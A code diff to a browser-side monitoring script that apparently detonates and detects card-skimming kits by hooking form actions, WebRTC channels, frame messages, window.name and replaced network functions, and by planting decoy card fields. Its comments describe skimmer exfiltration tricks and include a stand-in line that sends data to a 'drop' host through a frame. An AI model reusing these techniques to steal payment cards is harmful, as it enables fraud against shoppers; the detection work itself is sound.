@@ -54,6 +54,7 @@
   var HTMLElementC = W.HTMLElement, HTMLFormC = W.HTMLFormElement;
   var loc = W.location, doc = W.document;
   var createN = W.Document.prototype.createElement, appendN = W.Node.prototype.appendChild;
+  var byIdN = W.Document.prototype.getElementById, byNameN = W.Document.prototype.getElementsByName;
   var setAttrN = W.Element.prototype.setAttribute;
 
   var NONCE = C.nonce;
@@ -276,7 +277,8 @@
     }).observe(doc, { childList: true, subtree: true });
   } catch (e) { /* never disturb the page */ }
   accessor(HTMLFormC.prototype, 'action', null, function (self, value) {
-    send('form-action', { url: cut(absolute(value), 500), field: describe(self) });
+    send('form-action', { url: cut(absolute(value), 500), field: describe(self),
+      card: formHasCard(self) ? '1' : '' });
   });
   method(HTMLFormC.prototype, 'submit', function (self) {
     send('sink', { sink: 'form-submit', url: cut(call(actionGet, self), 500), field: describe(self) });
@@ -415,7 +417,8 @@
     else if (name === 'src' && (t === 'SCRIPT' || t === 'IFRAME')) {
       send('inject', { tag: lower(t), via: 'setAttribute', url: cut(absolute(args[1]), 500) });
     } else if (name === 'action' && t === 'FORM') {
-      send('form-action', { url: cut(absolute(args[1]), 500), field: describe(self) });
+      send('form-action', { url: cut(absolute(args[1]), 500), field: describe(self),
+        card: formHasCard(self) ? '1' : '' });
     } else if (call(strIndexOf, name, ['on']) === 0 && targetOf(self)) {
       var d = targetOf(self); d.event = call(strSlice, name, [2]); d.via = 'attribute';
       send('handler', d);
@@ -451,6 +454,48 @@
   ctor(W, 'EventSource', function (args) {
     send('sink', { sink: 'eventsource', url: cut(absolute(args[0]), 2000) });
   });
+  // ------------------------------------------------------------------ WebRTC
+  // A connection's ICE servers are names the browser resolves (a DNS query: a name can carry
+  // data), and its data channels send to a peer that no request shows. Each server named and
+  // each message sent is recorded as a send. A data channel never connects here (there is no
+  // peer): it is told it opened, so that a kit waiting for that sends what it queued.
+  var lastPeer = '', ICE = /^(stuns?|turns?):(?:\/\/)?(.*)$/i;
+  function iceUrl(u) {  // `stun:host:3478`, `turn:host?transport=tcp` → a URL with a host
+    var m = ICE.exec(StringC(u));
+    return m ? lower(m[1]) + '://' + m[2] : StringC(u);
+  }
+  if (W.RTCPeerConnection) {
+    ctor(W, 'RTCPeerConnection', function (args) {
+      var servers = args[0] && args[0].iceServers, first = '';
+      if (!isArray(servers)) return;
+      for (var i = 0; i < servers.length && i < 32; i++) {
+        var urls = servers[i] && (servers[i].urls || servers[i].url);
+        var list = isArray(urls) ? urls : [urls];
+        for (var j = 0; j < list.length && j < 8; j++) {
+          if (typeof list[j] !== 'string') continue;
+          var url = cut(iceUrl(list[j]), 2000);
+          first = first || url;
+          send('sink', { sink: 'webrtc', url: url });
+        }
+      }
+      if (first) lastPeer = first;
+    });
+    method(W.RTCPeerConnection.prototype, 'createDataChannel', function (self, args, t) {
+      var channel = apply(t, self, args);
+      call(setTimeoutN, W, [function () {
+        try {
+          if (channel && channel.readyState !== 'open') call(nativeDispatch, channel, [new EventC('open')]);
+        } catch (e) { }
+      }, 50]);
+      return answer(channel);
+    });
+  }
+  if (W.RTCDataChannel) {
+    method(W.RTCDataChannel.prototype, 'send', function (self, args) {
+      send('sink', { sink: 'webrtc-data', url: lastPeer || 'webrtc://peer' },
+        bytesText(args[0]) || serialise(args[0]));
+    });
+  }
   // ------------------------------------------------------------------ encryption
   // A kit that encrypts the card before sending defeats any search of what it sends; the
   // plaintext is recorded where it is encrypted (WebCrypto, CryptoJS, JSEncrypt).
@@ -521,6 +566,29 @@
       send('sink', { sink: 'message-received', origin: cut(origin, 200) }, serialise(v));
     }
   });
+  // A frame of another origin than the page's (a kit's own invisible iframe, answered inside
+  // the browser) has no code of its own to read what it is handed, and a message posted into
+  // it from outside passes no hook of the sender's: each message from another origin that
+  // nothing in the frame read is read where it arrives.
+  // The same for a frame's name: set before the frame was sent to another origin
+  // (`f.contentWindow.name = data; f.contentWindow.location = 'https://drop/…'`), it arrives
+  // there with it.
+  try {
+    if (W !== W.top) {
+      // read after the frame's own listeners (their reading names their script)
+      call(nativeAdd, W, ['message', function (ev) {
+        call(setTimeoutN, W, [function () {
+          if (!call(wsHas, seenMessages, [ev])) { try { return ev.data; } catch (e) { } }
+        }, 0]);
+      }, true]);
+      var topOrigin = null;
+      try { topOrigin = W.top.location.origin; } catch (e) { /* another origin's */ }
+      var carried = W.name;
+      if (carried && topOrigin !== loc.origin) {
+        send('sink', { sink: 'window-name', origin: cut(loc.origin, 200) }, StringC(carried));
+      }
+    }
+  } catch (e) { /* a sandboxed frame that may not see its top */ }
 
   // ------------------------------------------------------------------ WebSocket (+ quarantine)
   function trusted(host) {
@@ -655,22 +723,29 @@
     var PAY = new RegExpC(S.pay, 'i'), SKIP = new RegExpC(S.skip, 'i');
     var FORM = new RegExpC(S.form, 'i'), buttons = [], mirrored = new WeakSetC();
     // `#id`, `tag#id`, `[name=x]`, `tag[name="x"]`: what code aimed at one platform asks for
-    // (classes after an id are read past: `#btnCreditCard.primary`; an escaped dot is the id's)
+    // (classes after an id are given to what is made: `#btnCreditCard.primary`; an escaped dot is the id's)
     // `[id="x"]`, `[name="card[number]"]` (brackets inside quotes; other attributes are read
     // for tests, see `standIn`); `form.payment-form`: a form by its class (only the card form)
-    var SIMPLE = /^\s*([a-z]+)?(?:#((?:[\w\-\[\]:]|\\.)+)(?:\.[\w\-]+)*|\[\s*([\w\-:]+)\s*=\s*(?:"([^"]+)"|'([^']+)'|([^\]\s"']+))\s*\]|\.([\w\-]+))\s*$/i;
+    var SIMPLE = /^\s*([a-z]+)?(?:#((?:[\w\-\[\]:]|\\.)+)((?:\.[\w\-]+)*)|\[\s*([\w\-:]+)\s*=\s*(?:"([^"]+)"|'([^']+)'|([^\]\s"']+))\s*\]|\.([\w\-]+))\s*$/i;
     var CAMEL = /([a-z0-9])([A-Z])/g, JOINER = /[_.\-]+/g;
+    // a name that says it is a button (`btnCreditCard`, `card-submit`): the pay button, whatever
+    // else it names (Newegg's kit pressed `#btnCreditCard`)
+    var BUTTON = /(?:^|\s)(?:btn|button|submit)(?:\s|$)/i;
+    // an id that is only the name of a checkout step (`#checkout`, `#payment`): the step's form
+    // or its container, not its button (Newegg's kit serialised `#checkout`)
+    var STAGE = /^(?:checkout|payment|billing|order)(?:[\s_\-]?(?:page|container|wrapper|area|section|step))?$/i;
     function kindOf(word, tagHint) {
       if (!word || test(SKIP, word)) return '';
-      for (var i = 0; i < rules.length; i++) if (test(rules[i][1], word)) return rules[i][0];
       // `payButton`, `btn_pay`: the words of a name written without spaces
       var words = call(strReplace, call(strReplace, word, [CAMEL, '$1 $2']), [JOINER, ' ']);
+      if (tagHint !== 'form' && tagHint !== 'input' && test(BUTTON, words)) return 'pay';
+      for (var i = 0; i < rules.length; i++) if (test(rules[i][1], word)) return rules[i][0];
       if (tagHint === 'form') {
         // a form asked for by name: the page's card form when the name is a payment form's
         // (`form#pay`, `form[name=checkout]`), else nothing (not a button, not a field)
         return test(FORM, word) || test(FORM, words) || test(PAY, words) ? 'form' : '';
       }
-      if (tagHint === '' && (test(FORM, word) || test(FORM, words))) return 'form';
+      if (tagHint === '' && (test(FORM, word) || test(FORM, words) || test(STAGE, word))) return 'form';
       return test(PAY, word) || test(PAY, words) ? 'pay' : '';
     }
     function home() {
@@ -686,7 +761,7 @@
       send('synth', { field: describe(el), kind: kind, selector: cut(selector, 120) });
       return el;
     }
-    function make(id, name, tagHint, selector, generic, cls) {
+    function make(id, name, tagHint, selector, generic, cls, classes) {
       if (made >= S.max || !doc.body) return null;
       var word = id || name || cls, kind = kindOf(word, tagHint);
       if (cls && kind !== 'form') return null;
@@ -701,12 +776,15 @@
         // an element the code needs to exist (its text read, a class set): a plain one
         var box = call(createN, doc, ['div']);
         call(setAttrN, box, ['id', word]);
+        if (classes) call(setAttrN, box, ['class', classes]);
         try { call(appendN, doc.body, [box]); } catch (e) { return null; }
         return created(box, 'element', selector);
       }
       var button = kind === 'pay' || tagHint === 'button';
       var el = call(createN, doc, [button ? 'button' : 'input']);
       if (id) call(setAttrN, el, ['id', id]);
+      // `#btnCreditCard.paymentBtn.creditcard`: the classes too, so the selector finds it
+      if (classes) call(setAttrN, el, ['class', classes]);
       if (name) call(setAttrN, el, ['name', name]);
       if (button) {
         call(setAttrN, el, ['type', 'submit']);
@@ -729,7 +807,8 @@
         var m = SIMPLE.exec(parts[i]);
         if (!m) continue;
         out[out.length] = { hint: lower(m[1] || ''), id: m[2] ? call(strReplace, m[2], [/\\/g, '']) : '',
-          key: lower(m[3] || ''), value: m[4] || m[5] || m[6] || '', cls: m[7] || '' };
+          classes: m[3] ? call(strReplace, call(strSlice, m[3], [1]), [/\./g, ' ']) : '',
+          key: lower(m[4] || ''), value: m[5] || m[6] || m[7] || '', cls: m[8] || '' };
       }
       return out;
     }
@@ -743,7 +822,8 @@
         // list whose later entries find the page's own fields: nothing is made for them
         if (p.key && p.key !== 'id' && p.key !== 'name') continue;
         var el = p.cls ? make('', '', p.hint, sel, false, p.cls)
-          : make(p.key === 'id' ? p.value : p.id, p.key === 'name' ? p.value : '', p.hint, sel);
+          : make(p.key === 'id' ? p.value : p.id, p.key === 'name' ? p.value : '', p.hint, sel,
+            false, '', p.classes);
         if (el) return el;
       }
       return null;
@@ -823,6 +903,59 @@
     }
     method(W.Element.prototype, 'matches', tested(false));
     method(W.Element.prototype, 'closest', tested(true));
+    // `ids.indexOf(e.target.id) !== -1`, `NAMES.includes(el.name)`: a kit's list of its own
+    // field names, tested against the field an event reached. A card field of the page passes
+    // for the list's entry of the same kind (recorded once per entry, as a stand-in).
+    function pageField(v) {
+      if (typeof v !== 'string' || !v || v.length > 100) return null;
+      var el = call(byIdN, doc, [v]) || call(byNameN, doc, [v])[0];
+      var kind = el ? fieldKind(el, '') : '';
+      return kind ? [el, kind] : null;
+    }
+    function listed(includes) {
+      return function (self, args, t) {
+        var found = apply(t, self, args);
+        if ((includes ? found : found !== -1) || !isArray(self) || self.length > 64) return answer(found);
+        var field = pageField(args[0]);
+        if (!field) return answer(found);
+        for (var i = 0; i < self.length; i++) {
+          var entry = self[i];
+          if (typeof entry !== 'string' || !entry) continue;
+          var kind = kindOf(entry, 'input');
+          if (kind === 'exp_month' || kind === 'exp_year') kind = 'expiry';
+          if (kind !== field[1]) continue;
+          if (!call(mapGet, standIns, [entry]) && made < S.max) {
+            call(mapSet, standIns, [entry, true]);
+            made++;
+            send('synth', { field: cut(describe(field[0]) + ' as ' + entry, 120), kind: field[1],
+              selector: cut(entry, 120) });
+          }
+          return answer(includes ? true : i);
+        }
+        return answer(found);
+      };
+    }
+    method(W.Array.prototype, 'indexOf', listed(false));
+    method(W.Array.prototype, 'includes', listed(true));
+    // A kit that replaces a sink to copy what the page sends (`window.fetch = wrapper`,
+    // `XMLHttpRequest.prototype.send = …`) has done something before anything is sent: the
+    // replacement is recorded, so the file is tried on a page that sends that way. (Detonation
+    // only: on a scanned page the property stays as the browser made it.)
+    function replaced(obj, name, label) {
+      var d = obj && getDesc(obj, name);
+      if (!d || !('value' in d) || !d.writable || !d.configurable) return;
+      var current = d.value;
+      defineProperty(obj, name, { configurable: true, enumerable: d.enumerable,
+        get: function () { return current; },
+        set: function (v) {
+          if (v !== current) send('hook', { sink: label });
+          current = v;
+        } });
+    }
+    replaced(W, 'fetch', 'fetch');
+    replaced(W.XMLHttpRequest.prototype, 'open', 'xhr');
+    replaced(W.XMLHttpRequest.prototype, 'send', 'xhr');
+    replaced(W.Navigator.prototype, 'sendBeacon', 'beacon');
     method(W.Document.prototype, 'getElementsByName', function (self, args, t) {
       if (self !== doc || apply(t, self, args).length) return;
       make('', StringC(args[0]), '', '[name="' + args[0] + '"]');
